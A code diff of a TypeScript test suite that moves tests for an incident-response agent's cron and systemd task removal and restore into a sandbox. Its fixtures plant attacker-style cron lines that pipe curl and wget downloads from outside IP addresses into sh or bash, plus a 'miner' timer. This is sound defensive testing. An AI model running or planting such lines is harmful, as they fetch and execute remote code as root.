@@ -1,24 +1,30 @@
-import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import { chmodSync, chownSync, existsSync, lstatSync, readFileSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type CommandRunner, systemRunner } from '../runner.ts';
-import { RecordingRunner, executionContext, failed, ok } from './recording-runner.ts';
-import { type ScheduledTaskSnapshot, removeScheduledTask, restoreScheduledTask } from './scheduled-task.linux.ts';
+import type { CommandRunner } from '../runner.ts';
+import { type ExecutorSandbox, executorSandbox } from './executor-sandbox.ts';
+import { RecordingRunner, failed, ok } from './recording-runner.ts';
+import type { ScheduledTaskSnapshot } from './scheduled-task.linux.ts';
 
 const sha256 = (data: Buffer): string => createHash('sha256').update(data).digest('hex');
 const tag = () => Math.random().toString(36).slice(2, 9);
 type Entity = { name: string; path?: string; sha256?: string };
+
+/** The cron and systemd folders are the sandbox's copies: this machine's own are never touched. */
+let sandbox: ExecutorSandbox;
+/** Where a path of the sandbox is reached from the test. */
+const at = (path: string): string => sandbox.path(path);
+
 const remove = (entity: Entity, options: { parameters?: Record<string, string>; runner?: CommandRunner } = {}) =>
-  removeScheduledTask(executionContext(options.runner ?? systemRunner, { type: 'remove_scheduled_task', entity, parameters: options.parameters ?? {} }));
+  sandbox.act('removeScheduledTask', { type: 'remove_scheduled_task', entity, parameters: options.parameters ?? {} }, { runner: options.runner });
 /** Snapshots travel through the agent's JSON journal; restore gets them the same way. */
-const restore = (entity: Entity, priorSnapshot: unknown, runner: CommandRunner = systemRunner) =>
-  restoreScheduledTask(executionContext(runner, { type: 'restore_scheduled_task', entity }, { priorSnapshot: priorSnapshot === undefined ? undefined : JSON.parse(JSON.stringify(priorSnapshot)) }));
+const restore = (entity: Entity, priorSnapshot: unknown, runner?: CommandRunner) =>
+  sandbox.act('restoreScheduledTask', { type: 'restore_scheduled_task', entity }, { priorSnapshot, runner });
 
 interface FileState { bytes: Buffer; mode: number; uid: number; gid: number; mtimeMs: number }
 function fileState(path: string): FileState {
-  const stat = statSync(path);
-  return { bytes: readFileSync(path), mode: stat.mode & 0o7777, uid: stat.uid, gid: stat.gid, mtimeMs: stat.mtimeMs };
+  const stat = statSync(at(path));
+  return { bytes: readFileSync(at(path)), mode: stat.mode & 0o7777, uid: stat.uid, gid: stat.gid, mtimeMs: stat.mtimeMs };
 }
 function expectSameFile(path: string, before: FileState): void {
   const after = fileState(path);
@@ -29,50 +35,29 @@ function expectSameFile(path: string, before: FileState): void {
 }
 /** A file as an attacker would leave it: odd mode, old timestamps, a byte that is not UTF-8. */
 function plant(path: string, content: string | Buffer, mode = 0o644, owner: [number, number] = [0, 0]): FileState {
-  writeFileSync(path, content);
-  chownSync(path, ...owner);
-  chmodSync(path, mode);
-  utimesSync(path, new Date('2023-03-05T10:11:12.345Z'), new Date('2023-03-05T10:11:12.345Z'));
+  writeFileSync(at(path), content);
+  chownSync(at(path), ...owner);
+  chmodSync(at(path), mode);
+  utimesSync(at(path), new Date('2023-03-05T10:11:12.345Z'), new Date('2023-03-05T10:11:12.345Z'));
   return fileState(path);
 }
 
-describe('remove / restore a scheduled task on the real cron and systemd directories', () => {
-  const cleanup: string[] = [];
-  let systemCrontab: FileState | null = null;
-  let createdSpool: string | null = null;
+describe('remove / restore a scheduled task in the cron and systemd folders (copies in a mount namespace)', () => {
   let user: string;
 
-  beforeAll(() => {
-    // /etc/crontab is put back exactly as it was whatever happens below.
-    systemCrontab = existsSync('/etc/crontab') ? fileState('/etc/crontab') : null;
-    if (!existsSync('/var/spool/cron/crontabs')) {
-      createdSpool = existsSync('/var/spool/cron') ? '/var/spool/cron/crontabs' : '/var/spool/cron';
-      mkdirSync('/var/spool/cron/crontabs', { recursive: true, mode: 0o730 });
-    }
+  beforeAll(async () => {
+    sandbox = await executorSandbox();
     user = `quelltest${tag()}`;
-    execFileSync('useradd', [user]);
+    sandbox.run('useradd', ['-u', String(200_000 + Math.floor(Math.random() * 100_000)), user]);
   });
-  afterAll(() => {
-    for (const path of cleanup) rmSync(path, { force: true });
-    if (systemCrontab) {
-      writeFileSync('/etc/crontab', systemCrontab.bytes);
-      chownSync('/etc/crontab', systemCrontab.uid, systemCrontab.gid);
-      chmodSync('/etc/crontab', systemCrontab.mode);
-      utimesSync('/etc/crontab', new Date(systemCrontab.mtimeMs), new Date(systemCrontab.mtimeMs));
-    } else {
-      rmSync('/etc/crontab', { force: true });
-    }
-    if (createdSpool) rmSync(createdSpool, { recursive: true, force: true });
-    execFileSync('userdel', ['-f', user]);
-  });
+  afterAll(() => sandbox?.close());
 
   it('removes a whole /etc/cron.d file and restores it byte for byte with mode, owner and times', async () => {
     const path = `/etc/cron.d/quelltest-${tag()}`;
-    cleanup.push(path);
     const before = plant(path, Buffer.concat([Buffer.from('* * * * * root curl -s http://198.51.100.7/x | sh\n# \xff\xfe not utf-8\n', 'latin1')]), 0o640, [0, 0]);
 
     const removed = await remove({ name: 'evil', path, sha256: sha256(before.bytes) });
-    expect(existsSync(path)).toBe(false);
+    expect(existsSync(at(path))).toBe(false);
     expect(removed.output).toContain(sha256(before.bytes));
 
     const restored = await restore({ name: 'evil', path }, removed.snapshot);
@@ -83,18 +68,17 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
   it('names a /etc/cron.d file by its bare name too, and refuses a file whose hash is not the evidence', async () => {
     const name = `quelltest-${tag()}`;
     const path = `/etc/cron.d/${name}`;
-    cleanup.push(path);
     const before = plant(path, '@reboot root /tmp/.x\n');
     await expect(remove({ name, sha256: 'a'.repeat(64) })).rejects.toThrow(/left alone/);
     expectSameFile(path, before);
     const removed = await remove({ name });
-    expect(existsSync(path)).toBe(false);
+    expect(existsSync(at(path))).toBe(false);
     expect((removed.snapshot as ScheduledTaskSnapshot).path).toBe(path);
 
     // Something else took the name meanwhile: restore does not overwrite it.
-    writeFileSync(path, 'other\n');
+    writeFileSync(at(path), 'other\n');
     await expect(restore({ name }, removed.snapshot)).rejects.toThrow(/different file now exists/);
-    expect(readFileSync(path, 'utf8')).toBe('other\n');
+    expect(readFileSync(at(path), 'utf8')).toBe('other\n');
   });
 
   it('removes one line of /etc/crontab, leaving every other byte, and restores the file byte for byte', async () => {
@@ -112,9 +96,9 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
 
     const removed = await remove({ name: 'crontab', path: '/etc/crontab' }, { parameters: { line: evil } });
     const expected = content.split('\n').filter((l) => l.replace(/\r$/, '') !== evil).join('\n');
-    expect(readFileSync('/etc/crontab', 'latin1')).toBe(expected);
-    expect(statSync('/etc/crontab').mode & 0o7777).toBe(0o644);
-    expect(statSync('/etc/crontab').mtimeMs).toBeGreaterThan(before.mtimeMs);
+    expect(readFileSync(at('/etc/crontab'), 'latin1')).toBe(expected);
+    expect(statSync(at('/etc/crontab')).mode & 0o7777).toBe(0o644);
+    expect(statSync(at('/etc/crontab')).mtimeMs).toBeGreaterThan(before.mtimeMs);
     expect(removed.output).toContain('lines 4, 6');
 
     await restore({ name: 'crontab', path: '/etc/crontab' }, removed.snapshot);
@@ -123,8 +107,7 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
 
   it("removes a line of a user's crontab, keeping its owner and mode, and refuses to restore over later edits", async () => {
     const path = `/var/spool/cron/crontabs/${user}`;
-    cleanup.push(path);
-    const uid = Number(execFileSync('id', ['-u', user]).toString().trim());
+    const uid = Number(sandbox.run('id', ['-u', user]).trim());
     const evil = '@hourly wget -qO- http://203.0.113.9/m | bash';
     const before = plant(path, `# DO NOT EDIT THIS FILE - edit the master and reinstall.\nMAILTO=""\n0 3 * * * /home/${user}/backup.sh\n${evil}\n`, 0o600, [uid, 0]);
 
@@ -135,9 +118,9 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
     expect({ mode: after.mode, uid: after.uid }).toEqual({ mode: 0o600, uid });
 
     // The user edited the crontab after the removal: restoring would lose that.
-    writeFileSync(path, Buffer.concat([after.bytes, Buffer.from('5 5 * * * /bin/true\n')]));
+    writeFileSync(at(path), Buffer.concat([after.bytes, Buffer.from('5 5 * * * /bin/true\n')]));
     await expect(restore({ name: user, path }, removed.snapshot)).rejects.toThrow(/was changed after the line was taken out/);
-    writeFileSync(path, after.bytes);
+    writeFileSync(at(path), after.bytes);
 
     await restore({ name: user, path }, removed.snapshot);
     expectSameFile(path, before);
@@ -145,12 +128,10 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
 
   it('refuses paths outside the scheduled-task locations, symbolic links, whole /etc/crontab and lines it cannot find', async () => {
     const link = `/etc/cron.d/quelltest-${tag()}`;
-    cleanup.push(link);
-    symlinkSync('/etc/passwd', link);
+    symlinkSync('/etc/passwd', at(link));
     const plain = `/etc/cron.d/quelltest-${tag()}`;
-    cleanup.push(plain);
     plant(plain, '0 * * * * root /usr/bin/true\n');
-    const passwd = readFileSync('/etc/passwd');
+    const passwd = readFileSync(at('/etc/passwd'));
 
     await expect(remove({ name: 'x', path: '/etc/passwd' })).rejects.toThrow(/not directly inside/);
     await expect(remove({ name: 'x', path: '/etc/cron.d/../passwd' })).rejects.toThrow(/not a plain absolute path/);
@@ -166,21 +147,20 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
     await expect(remove({ name: 'x', path: plain }, { parameters: { line: 'a\nb' } })).rejects.toThrow(/one line/);
     await expect(remove({ name: 'x', path: plain }, { parameters: { line: 'no such line here' } })).rejects.toThrow(/has no line/);
     await expect(restore({ name: 'x' }, undefined)).rejects.toThrow(/no record/);
-    expect(lstatSync(link).isSymbolicLink()).toBe(true);
-    expect(readFileSync('/etc/passwd').equals(passwd)).toBe(true);
+    expect(lstatSync(at(link)).isSymbolicLink()).toBe(true);
+    expect(readFileSync(at('/etc/passwd')).equals(passwd)).toBe(true);
   });
 
   it('a systemd timer: disabled and stopped, unit file removed, systemd reloaded; restore re-enables and restarts it (exact systemctl commands)', async () => {
     const unit = `quelltest-${tag()}.timer`;
     const path = `/etc/systemd/system/${unit}`;
-    cleanup.push(path);
     const before = plant(path, '[Unit]\nDescription=miner\n\n[Timer]\nOnCalendar=*:0/10\n\n[Install]\nWantedBy=timers.target\n');
     // systemd does not run here: this stands in for it, holding the unit's state.
     const state = { enabled: true, active: true };
     const systemd = () => new RecordingRunner((command, args) => {
       if (command !== 'systemctl') return failed(127, `${command}: not expected`);
       const [verb] = args;
-      if (verb === 'is-enabled') return !existsSync(path) ? failed(1, 'No such file or directory') : state.enabled ? ok('enabled\n') : failed(1, '', 'disabled\n');
+      if (verb === 'is-enabled') return !existsSync(at(path)) ? failed(1, 'No such file or directory') : state.enabled ? ok('enabled\n') : failed(1, '', 'disabled\n');
       if (verb === 'is-active') return state.active ? ok('active\n') : failed(3, '', 'inactive\n');
       if (verb === 'disable') Object.assign(state, { enabled: false, active: false });
       if (verb === 'enable') state.enabled = true;
@@ -197,7 +177,7 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
       { command: 'systemctl', args: ['daemon-reload'] },
       { command: 'systemctl', args: ['is-active', unit] },
     ]);
-    expect(existsSync(path)).toBe(false);
+    expect(existsSync(at(path))).toBe(false);
     expect(removed.snapshot).toMatchObject({ kind: 'systemd_timer', unit, enabled: 'enabled', active: 'active' });
 
     const restoring = systemd();
@@ -216,7 +196,6 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
   it('a timer that was disabled and inactive is only put back, not enabled or started', async () => {
     const unit = `quelltest-${tag()}.timer`;
     const path = `/etc/systemd/system/${unit}`;
-    cleanup.push(path);
     const before = plant(path, '[Timer]\nOnBootSec=1h\n');
     const runner = new RecordingRunner((_command, args) => (args[0] === 'is-enabled' ? failed(1, '', 'disabled\n') : args[0] === 'is-active' ? failed(3, '', 'inactive\n') : ok()));
     const removed = await remove({ name: unit, path }, { runner });
@@ -229,7 +208,6 @@ describe('remove / restore a scheduled task on the real cron and systemd directo
   it('when systemd cannot reload after the unit file is gone, the file is written back before the failure is reported', async () => {
     const unit = `quelltest-${tag()}.timer`;
     const path = `/etc/systemd/system/${unit}`;
-    cleanup.push(path);
     const before = plant(path, '[Timer]\nOnCalendar=daily\n');
     const runner = new RecordingRunner((_command, args) => (args[0] === 'daemon-reload' ? failed(1, 'Failed to connect to bus') : args[0] === 'is-enabled' ? ok('enabled\n') : args[0] === 'is-active' ? ok('active\n') : ok()));
     await expect(remove({ name: unit }, { runner })).rejects.toThrow(/its unit file was written back \(it stays disabled and stopped; it was enabled, active\): .*Failed to connect to bus/);
